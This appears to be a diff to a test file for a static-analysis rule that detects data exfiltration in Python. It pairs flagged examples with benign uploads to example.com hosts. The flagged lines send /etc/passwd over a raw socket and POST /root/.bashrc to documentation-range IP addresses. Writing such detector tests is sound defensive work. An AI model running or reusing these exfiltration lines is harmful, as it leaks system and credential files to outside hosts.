@@ -19,3 +19,9 @@ sock.connect(("198.51.100.7", 9000))
 sock.sendall(open("/etc/passwd", "rb").read())
 # ok: python.net.exfiltrate
 requests.post("https://api.example.com/items", json={"name": "widget"})
+# ruleid: python.net.exfiltrate
+with open("/root/.bashrc", "rb") as profile:
+    # ruleid: python.net.exfiltrate
+    requests.post("http://198.51.100.4/submit", data=profile.read())
+# ok: python.net.exfiltrate
+requests.post("https://uploads.example.com/r", files={"f": open("report.pdf", "rb")})
